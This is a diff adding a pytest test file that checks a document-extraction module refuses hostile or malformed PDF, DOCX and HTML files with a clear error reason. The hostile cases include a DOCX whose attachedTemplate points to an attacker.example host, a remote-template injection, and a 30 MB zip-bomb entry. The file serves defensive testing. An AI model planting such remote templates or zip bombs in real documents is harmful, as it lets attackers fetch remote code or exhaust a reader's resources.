@@ -1,0 +1,82 @@
+"""Hostile files: each is refused with one ExtractionError whose reason names the cause and the fix."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import makedocs
+import pytest
+
+from parisqa.corpus.formats import extract
+from parisqa.errors import CorpusError, ExtractionError
+
+
+def _rewrite_docx(extra: dict[str, bytes] | None = None, rels_patch: bytes | None = None) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(makedocs.docx())) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in src.infolist():
+            data = src.read(info)
+            if rels_patch and info.filename == "word/_rels/document.xml.rels":
+                data = data.replace(b"</Relationships>", rels_patch + b"</Relationships>")
+            out.writestr(info, data)
+        for name, data in (extra or {}).items():
+            out.writestr(name, data)
+    return buf.getvalue()
+
+
+def _cases() -> list[tuple[str, bytes, str]]:
+    pdf = makedocs.pdf(2)
+    docx = makedocs.docx()
+    template = (
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
+    )
+    return [
+        ("encrypted.pdf", makedocs.pdf(2, encrypt=True), "encrypted; decrypt it first"),
+        ("scan.pdf", makedocs.image_pdf(), "no text layer; OCR is not supported"),
+        ("half.pdf", pdf[: len(pdf) // 2], "damaged or truncated PDF"),
+        ("head.pdf", pdf[:200], "damaged or truncated PDF"),
+        ("half.docx", docx[: len(docx) // 2], "damaged or not a Word document"),
+        ("bomb.docx", _rewrite_docx({"word/media/big.bin": b"\0" * 30_000_000}), "zip bomb?"),
+        ("template.docx", _rewrite_docx(rels_patch=template), "external reference (attachedTemplate -> http://attacker"),
+        ("page.pdf", makedocs.html(), "the content is HTML, not PDF; rename it to .html"),
+        ("notes.docx", b"just some notes\n", "the content is not DOCX"),
+        ("report.html", pdf, "the file is PDF, not HTML"),
+        ("report.docx", pdf, "the content is PDF, not DOCX; rename it to .pdf"),
+        ("empty.pdf", b"", "the file is empty"),
+        ("scripts.html", b"<html><head><script>var a = 1;</script></head><body></body></html>", "no main text"),
+        ("notes.txt", b"text", ".txt is not a converted format"),
+    ]
+
+
+@pytest.mark.parametrize("name,data,reason", _cases(), ids=lambda v: v if isinstance(v, str) and "." in v else "")
+def test_hostile_file_is_refused_with_its_reason(name: str, data: bytes, reason: str):
+    with pytest.raises(ExtractionError) as caught:
+        extract(f"corpus/{name}", data)
+    err = caught.value
+    assert isinstance(err, CorpusError)
+    assert reason in err.reason
+    assert str(err).startswith(f"corpus/{name}: ")
+    assert "\n" not in str(err)
+
+
+def test_docx_with_an_external_hyperlink_is_fine():
+    link = (
+        b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'hyperlink" Target="https://example.org/" TargetMode="External"/>'
+    )
+    ex = extract("links.docx", _rewrite_docx(rels_patch=link))
+    assert makedocs.PAGE2_SENTENCE in ex.text
+
+
+def test_pdf_with_only_an_owner_password_reads():
+    from fpdf import FPDF
+
+    doc = FPDF()
+    doc.set_encryption(owner_password="owner")  # no user password: any reader opens it
+    doc.add_page()
+    doc.set_font("Helvetica", size=11)
+    doc.cell(0, 10, "Readable although protected.")
+    ex = extract("owner.pdf", bytes(doc.output()))
+    assert ex.text == "Readable although protected."
